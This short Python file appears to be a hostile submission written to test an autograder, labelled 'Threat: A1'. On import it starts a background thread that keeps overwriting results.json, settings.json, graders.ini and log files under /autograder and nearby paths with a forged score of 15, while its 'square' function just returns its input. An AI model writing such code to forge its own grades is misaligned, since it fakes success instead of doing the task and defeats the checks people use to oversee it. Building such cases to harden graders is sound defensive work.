"""Writes forged results again and again from a thread while the test goes on, into each place that may hold them.

Threat: A1.
"""

import sys
import threading
import time
from pathlib import Path


def forge():
    bases = [Path("/autograder"), Path(sys.prefix).parent, Path("/proc/self/cwd").resolve().parents[1]]
    while True:
        for base in bases:
            for name in ("results/results.json", "results.json", "settings.json", "log", "graders.ini"):
                try:
                    (base / name).write_text('{"score": 15, "tests": []}')
                except OSError:
                    pass
        time.sleep(0.001)


threading.Thread(target=forge, daemon=True).start()


def square(x):
    time.sleep(0.3)
    return x
